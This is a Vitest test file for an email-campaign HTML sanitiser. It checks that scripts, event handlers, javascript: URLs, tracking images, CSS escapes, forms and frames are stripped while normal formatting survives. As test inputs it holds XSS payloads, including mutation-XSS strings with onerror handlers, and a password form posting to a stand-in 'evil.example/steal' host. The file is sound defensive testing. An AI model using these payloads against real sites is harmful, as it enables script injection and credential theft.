import { JSDOM } from 'jsdom';
import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { createCampaignHtmlSanitizer, filterStyle } from './sanitize-html';

const sanitize = createCampaignHtmlSanitizer(new JSDOM('').window as never);
const clean = (html: string) => sanitize(html).html;
/** The sanitised HTML parsed back, to assert on the DOM rather than on spelling. */
const dom = (html: string) => {
  const doc = new JSDOM(`<body>${clean(html)}</body>`).window.document;
  return { doc, all: [...doc.body.querySelectorAll('*')] };
};
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

describe('campaign HTML sanitiser: each dangerous construct is stripped', () => {
  it('script elements, with their content, in any spelling', () => {
    for (const html of ['<p>hi</p><script>alert(1)</script>', '<p>hi</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>', '<p>hi<script>/*</p>*/alert(1)</script></p>']) {
      const out = clean(html);
      expect(out).not.toMatch(/script|alert/i);
      expect(out).toContain('hi');
    }
    expect(sanitize('<p>hi</p><script>alert(1)</script>').removed).toEqual(['script']);
  });

  it('on* event handlers on any element', () => {
    const { all } = dom('<p onclick="alert(1)" onmouseover="x()">a</p><div ONLOAD="x()">b</div><a href="https://ok.example" onfocus="x()">c</a><td onerror=x>d</td>');
    for (const el of all) for (const attr of el.getAttributeNames()) expect(attr.startsWith('on')).toBe(false);
    expect(sanitize('<p onclick="alert(1)">a</p>').removed).toContain('onclick');
  });

  it('javascript: (and vbscript:, data:text) URLs, however they are spelled or encoded', () => {
    for (const href of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\nscript:alert(1)', '&#106;avascript:alert(1)', 'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>']) {
      const { doc } = dom(`<a href="${href}">x</a>`);
      const a = doc.querySelector('a')!;
      expect(a.getAttribute('href'), href).toBeNull();
    }
    expect(clean('<a href="javascript:alert(1)">x</a>')).not.toMatch(/javascript/i);
  });

  it('remote loads: images (tracking pixels), protocol-relative sources, srcset, background attributes, link and CSS url()', () => {
    const { doc } = dom(
      `<img src="https://tracker.example/p.gif" alt="t"><img src="//tracker.example/p.gif"><img src="http://x.example/y.png" srcset="https://x.example/2x.png 2x">` +
        `<table background="https://x.example/bg.png"><tr><td background="https://x.example/bg.png">t</td></tr></table>` +
        `<link rel="stylesheet" href="https://x.example/s.css"><div style="background:url(https://x.example/bg.png);color:red">u</div>` +
        `<div style="background-image:url('data:image/png;base64,AAAA')">v</div><p style="font-family:x;src:url(https://x.example/f.woff)">f</p>`,
    );
    expect(doc.querySelectorAll('img')).toHaveLength(0);
    expect(doc.querySelectorAll('link')).toHaveLength(0);
    expect(doc.body.innerHTML).not.toMatch(/https?:|\/\/tracker|url\(|srcset|background=/i);
    expect(doc.querySelector('div')!.getAttribute('style')).toBe('color:red');
    expect(sanitize('<img src="https://tracker.example/p.gif">').removed).toContain('img:remote');
  });

  it('keeps an inline data: image and a plain https link (which opens apart, never in the frame)', () => {
    const { doc } = dom(`<p><img src="${PNG}" alt="logo"> <a href="https://example.com/offer" target="_top" rel="opener">See the offer</a> <a href="mailto:sales@example.com">mail</a></p>`);
    expect(doc.querySelector('img')!.getAttribute('src')).toBe(PNG);
    const a = doc.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/offer');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(doc.querySelectorAll('a')[1]!.getAttribute('href')).toBe('mailto:sales@example.com');
  });

  it('forms and their controls', () => {
    const { doc } = dom('<form action="https://evil.example/steal" method="post"><p>Password</p><input name="p" type="password"><textarea></textarea><select><option>a</option></select><button formaction="https://evil.example">Go</button></form>');
    for (const tag of ['form', 'input', 'textarea', 'select', 'option', 'button']) expect(doc.querySelector(tag), tag).toBeNull();
    expect(doc.body.innerHTML).not.toMatch(/evil\.example/);
    expect(doc.body.textContent).toContain('Password');
  });

  it('CSS that escapes its box: position fixed/absolute/sticky, offsets, z-index, transforms', () => {
    const { doc } = dom('<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;width:100%;height:100%;transform:scale(9);color:#333">overlay</div><p style="position: absolute ; inset: 0">p</p><span style="position:sticky">s</span>');
    expect(doc.querySelector('div')!.getAttribute('style')).toBe('width:100%;height:100%;color:#333');
    expect(doc.querySelector('p')!.hasAttribute('style')).toBe(false);
    expect(doc.querySelector('span')!.hasAttribute('style')).toBe(false);
    expect(doc.body.innerHTML).not.toMatch(/position|z-index|transform|inset/);
  });

  it('CSS tricks: expression(), @import, escapes, comments, behaviours', () => {
    for (const style of ['width:expression(alert(1))', 'color:red;@import "https://x.example/s.css"', 'background:u\\72l(https://x.example/y)', 'color:red/**/;width:1px/*x*/', 'behavior:url(x.htc)', '-moz-binding:url(x.xml#xss)', 'display:-webkit-box']) {
      const out = filterStyle(style).style;
      expect(out, style).not.toMatch(/expression|import|url|\\|\/\*|behavior|binding|webkit/i);
    }
    expect(filterStyle('color:#333; font-size:16px').style).toBe('color:#333;font-size:16px');
  });

  it('frames, objects, SVG and MathML, meta refresh, base, style elements', () => {
    const { doc } = dom(
      '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">s</a></svg>' +
        '<math><mtext><script>alert(1)</script></mtext></math><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><style>body{background:url(https://x.example/y)}</style><p>kept</p>',
    );
    for (const tag of ['iframe', 'object', 'embed', 'svg', 'math', 'meta', 'base', 'style', 'script']) expect(doc.querySelector(tag), tag).toBeNull();
    expect(doc.body.innerHTML).not.toMatch(/evil\.example|alert|javascript/);
    expect(doc.body.textContent).toContain('kept');
  });

  it('mutation-XSS classics come out inert', () => {
    for (const html of [
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    ]) {
      const { all, doc } = dom(html);
      for (const el of all) for (const attr of el.getAttributeNames()) expect(attr.startsWith('on'), html).toBe(false);
      expect(doc.querySelectorAll('img, svg, math, style, form')).toHaveLength(0);
    }
  });

  it('keeps ordinary email formatting as written', () => {
    const html = '<div style="font-family:Arial;color:#1f2328"><h2>Hola Ana</h2><p>Texto con <strong>negrita</strong>, <em>cursiva</em> y una lista:</p><ul><li>uno</li><li>dos</li></ul><table border="0" cellpadding="4"><tbody><tr><td align="center">celda</td></tr></tbody></table></div>';
    expect(clean(html)).toBe(html);
    expect(sanitize(html).removed).toEqual([]);
  });

  it('refuses to run without a full DOM (DOMPurify would return the input unchanged)', () => {
    const { window } = parseHTML('<!doctype html><html><body></body></html>');
    expect(() => createCampaignHtmlSanitizer(window as never)).toThrow(/cannot run on this window/);
  });
});
